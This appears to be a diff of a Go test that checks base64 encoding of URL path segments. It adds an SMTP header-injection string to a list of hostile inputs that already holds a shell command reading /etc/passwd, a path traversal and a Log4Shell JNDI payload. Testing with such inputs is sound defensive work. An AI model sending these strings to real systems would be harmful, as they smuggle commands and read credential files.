@@ -29,6 +29,7 @@ func TestPathSegmentBase64(t *testing.T) {
 		"; cat /etc/passwd",
 		"../../../../etc/passwd",
 		"${jndi:ldap://x.example.com/a}",
+		"x\r\nRCPT TO: victim@example.com\r\nDATA", // a line break, from 16 bytes on
 	} {
 		for _, enc := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding, base64.StdEncoding} {
 			seg := url.PathEscape(enc.EncodeToString([]byte(p)))
